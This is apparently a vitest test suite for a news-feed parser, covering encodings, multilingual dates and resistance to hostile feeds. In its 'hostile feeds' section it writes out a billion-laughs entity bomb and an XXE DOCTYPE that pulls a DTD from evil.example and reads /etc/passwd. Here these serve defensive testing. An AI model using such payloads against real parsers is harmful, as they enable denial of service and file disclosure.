import { describe, expect, it } from 'vitest';
import { FeedError, MAX_FEED_ITEMS, parseFeed } from '../../src/content/feed.ts';
import { decodeFeedBytes } from '../../src/content/feed-encoding.ts';
import { parseFeedDate } from '../../src/content/feed-dates.ts';
import { LIMITS } from '../../src/content/xml-document.ts';
import { fuzzFeeds } from '../../scripts/fuzz-feeds.ts';

const rss = (items: string, head = '<?xml version="1.0"?>') =>
  `${head}<rss version="2.0"><channel><title>t</title><link>https://n.example/</link>${items}</channel></rss>`;
const item = (title: string, extra = '') => `<item><title>${title}</title><link>https://n.example/${encodeURIComponent(title)}</link><pubDate>Mon, 25 Nov 2024 10:00:00 GMT</pubDate>${extra}</item>`;

describe('feed encodings', () => {
  it('reads Windows-1252 and ISO-8859-1, declared or not', () => {
    // "Café “hoy”" in Windows-1252: é is E9, the curly quotes 93 and 94 (not valid UTF-8).
    const title = Buffer.from([0x43, 0x61, 0x66, 0xe9, 0x20, 0x93, 0x68, 0x6f, 0x79, 0x94]);
    const [before, after] = rss(item('@@')).split('@@') as [string, string];
    const bytes = (head: string) => Buffer.concat([Buffer.from(head + before.slice('<?xml version="1.0"?>'.length)), title, Buffer.from(after)]);
    const undeclared = parseFeed(bytes('<?xml version="1.0"?>'), { source: 'cp1252.rss' });
    expect(undeclared.articles[0]!.headline).toBe('Café “hoy”');
    expect(undeclared.notes).toContain('cp1252.rss: the feed is not valid UTF-8: read as Windows-1252');
    expect(parseFeed(bytes('<?xml version="1.0" encoding="ISO-8859-1"?>')).articles[0]!.headline).toBe('Café “hoy”');
    // The HTTP charset counts when the document says nothing.
    expect(decodeFeedBytes(Buffer.from('<rss>\xe9</rss>', 'latin1'), 'ISO-8859-1')).toMatchObject({ text: '<rss>é</rss>', encoding: 'windows-1252' });
  });

  it('reads UTF-16, little- and big-endian, with a BOM or without one', () => {
    const doc = rss(item('Niños y niñas'), '<?xml version="1.0" encoding="UTF-16"?>');
    const le = Buffer.from(doc, 'utf16le');
    const be = Buffer.from(le).swap16();
    for (const [name, bytes] of [
      ['LE with BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), le])],
      ['BE with BOM', Buffer.concat([Buffer.from([0xfe, 0xff]), be])],
      ['LE without', le],
      ['BE without', be],
    ] as const) {
      expect(parseFeed(bytes, { source: name }).articles[0]?.headline, name).toBe('Niños y niñas');
    }
    // A UTF-8 file that claims UTF-16 (a common CMS mistake) is read as what it is.
    expect(parseFeed(Buffer.from(doc, 'utf8')).articles[0]!.headline).toBe('Niños y niñas');
  });

  it('reads UTF-8 with a BOM, and JSON Feed in UTF-8 with a BOM', () => {
    expect(parseFeed(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(rss(item('Año nuevo')))])).articles[0]!.headline).toBe('Año nuevo');
    const json = JSON.stringify({ version: 'https://jsonfeed.org/version/1.1', items: [{ id: '1', url: 'https://n.example/1', title: 'Año', date_published: '2024-11-25T10:00:00Z' }] });
    expect(parseFeed(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(json)])).articles[0]!.headline).toBe('Año');
  });
});

describe('feed dates', () => {
  it.each([
    ['Thu, 21 Nov 2024 14:00:00 +0000', '2024-11-21T14:00:00.000Z'],
    ['Thu, 21 Nov 24 09:00:00 EST', '2024-11-21T14:00:00.000Z'],
    ['2024-11-21T08:00:00-06:00', '2024-11-21T14:00:00.000Z'],
    ['2024-11-21', '2024-11-21T00:00:00.000Z'],
    ['mié, 20 nov 2024 10:00:00 -0600', '2024-11-20T16:00:00.000Z'],
    ['Miércoles, 20 de noviembre de 2024 10:00', '2024-11-20T10:00:00.000Z'],
    ['mar, 19 nov 2024 09:15:00 -0600', '2024-11-19T15:15:00.000Z'],
    ['Seg, 24 Set 2018 19:42:40 -0300', '2018-09-24T22:42:40.000Z'],
    ['quarta-feira, 20 de novembro de 2024 10:00', '2024-11-20T10:00:00.000Z'],
    ['sáb, 23 dic 2023 08:00:00 GMT', '2023-12-23T08:00:00.000Z'],
  ])('%s', (text, iso) => expect(parseFeedDate(text)?.toISOString()).toBe(iso));

  it('refuses what is not a date rather than guess', () => {
    for (const text of ['hace 3 horas', 'Sun, 31 Feb 2024 10:00:00 GMT', '', 'x'.repeat(500), '2024-13-01', '12/11/2024']) expect(parseFeedDate(text), text).toBeNull();
  });
});

describe('hostile feeds', () => {
  it('expands an internal DTD once, never recursively: a billion laughs is a few words', () => {
    const lol = `<!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>`;
    const feed = parseFeed(rss(item('&lol3;'), `<?xml version="1.0"?>${lol}`));
    expect(feed.articles[0]!.headline).toBe('&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;');
  });

  it('refuses a DTD whose entities would expand past the limit, by name, not by running out of memory', () => {
    const big = 'x'.repeat(4000);
    const refs = '&big;'.repeat(Math.ceil(LIMITS.entityExpansion / 4000) + 1);
    expect(() => parseFeed(rss(item(refs), `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY big "${big}">]>`))).toThrow(/entities expand to more than/);
  });

  it('answers a parameter or external entity with a note, not an error (the CLI printed "Invalid entity name %")', () => {
    const doctype = '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p; <!ENTITY ext SYSTEM "file:///etc/passwd">]>';
    const feed = parseFeed(rss(item('Hola &ext;'), `<?xml version="1.0"?>${doctype}`), { source: 'evil.rss' });
    expect(feed.articles[0]!.headline).toBe('Hola &ext;');
    expect(feed.notes).toContain('evil.rss: the DOCTYPE declares parameter or external entities: they are not read (read anyway)');
  });

  it('refuses nesting past the depth limit with the line, without a stack overflow', () => {
    const deep = '<a>'.repeat(100_000) + '</a>'.repeat(100_000);
    expect(() => parseFeed(rss(`<item>${deep}</item>`), { source: 'deep.rss' })).toThrow(new RegExp(`^deep\\.rss: not well-formed XML at line 1, column \\d+: elements nested deeper than ${LIMITS.depth}`));
  });

  it(`reads the first ${MAX_FEED_ITEMS} items of an enormous feed and says so`, () => {
    const items = Array.from({ length: 5000 }, (_, i) => item(`Story ${i}`)).join('');
    const feed = parseFeed(rss(items), { source: 'archive.rss' });
    expect(feed.articles).toHaveLength(MAX_FEED_ITEMS);
    expect(feed.notes).toContain(`archive.rss: the feed has 5000 items; the first ${MAX_FEED_ITEMS} were read`);
  });

  it('skips a JSON Feed item that is null or not an object, and reads the rest', () => {
    const json = JSON.stringify({ version: 'https://jsonfeed.org/version/1.1', items: [null, 7, 'x', [], { id: '1', url: 'https://n.example/1', title: 'Ok', date_published: '2024-11-25T10:00:00Z' }] });
    const feed = parseFeed(json);
    expect(feed.articles.map((a) => a.headline)).toEqual(['Ok']);
    expect(feed.skipped.map((s) => s.reason)).toEqual([
      'items[0]: not an object (got null)',
      'items[1]: not an object (got number)',
      'items[2]: not an object (got string)',
      'items[3]: not an object (got object)',
    ]);
  });

  it('reads an unescaped & and undefined HTML entities, and says where the markup was loose', () => {
    const feed = parseFeed(rss(item('AT&T y el Caf&eacute; &bogus;')), { source: 'loose.rss' });
    expect(feed.articles[0]!.headline).toBe('AT&T y el Café &bogus;');
    expect(feed.notes.some((n) => /^loose\.rss: line 1: Invalid character (in entity name|entity) \(read anyway\)$/.test(n))).toBe(true);
  });

  it('a short fuzz run: no input crashes, hangs or balloons the parser', () => {
    const report = fuzzFeeds({ iterations: 1500, seed: 7 });
    expect(report.crashes).toEqual([]);
    expect(report.worstMs).toBeLessThan(5000);
    console.info(`[measure] feed fuzz (CI run): ${report.iterations} inputs, ${report.crashes.length} crashes, ${report.refused} refused with a FeedError, worst ${report.worstMs.toFixed(1)} ms, worst heap growth ${(report.worstHeapBytes / 1048576).toFixed(1)} MB`);
  });
});

describe('FeedError', () => {
  it('is what every refusal is', () => {
    for (const bad of ['', 'hello', '<rss>', '{"version": 1}', '<?xml version="1.0"?><html><body></body></html>', '\u0000\u0001']) {
      expect(() => parseFeed(bad)).toThrow(FeedError);
    }
  });
});
